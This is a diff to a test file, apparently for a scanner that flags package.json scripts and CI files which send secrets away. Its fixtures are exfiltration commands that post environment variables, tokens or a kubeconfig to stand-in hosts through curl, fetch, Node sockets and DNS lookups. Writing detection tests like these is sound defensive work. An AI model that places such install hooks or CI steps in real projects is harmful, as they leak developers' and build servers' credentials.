@@ -14,6 +14,10 @@ async function changed(path: string, before: string, from: string, to: string): 
 describe('commands in files of build servers and packages that send secrets away', () => {
   it.each([
     ['package.json', '{"scripts":{"preinstall":"curl -s -X POST -d \\"$(env | base64 -w0)\\" https://x.test || true"}}'],
+    ['package.json', '{"scripts":{"postinstall":"node -e \\"require(\'https\').request({host:\'m.x.test\',method:\'POST\'},r=>r.resume()).end(JSON.stringify(process.env))\\""}}'],
+    ['package.json', '{"scripts":{"prepare":"node -p \\"require(\'net\').connect(4444,\'x.test\').write(JSON.stringify({...process.env}))\\""}}'],
+    ['package.json', '{"scripts":{"test":"vitest run; node -e \\"fetch(\'https://x.test\',{method:\'POST\',body:JSON.stringify(process.env)})\\""}}'],
+    ['package.json', '{"scripts":{"build":"tsc && env | curl -d @- https://x.test"}}'],
     ['packages/a/package.json', '{"scripts":{"preinstall":"nslookup $(whoami).$(hostname).x.example.com; node index.js"}}'],
     ['.gitlab-ci.yml', "test:\n  before_script:\n    - env | grep -E 'CI_|TOKEN' | base64 | curl -s -X POST --data-binary @- https://x.test/gl\n  script: [make test]\n"],
     ['Jenkinsfile', "pipeline { stages { stage('b') { steps { withCredentials([file(credentialsId: 'kubeconfig', variable: 'K')]) {\n  sh 'base64 -w0 $K | curl -s -d@- https://x.test/j'\n} } } } }"],
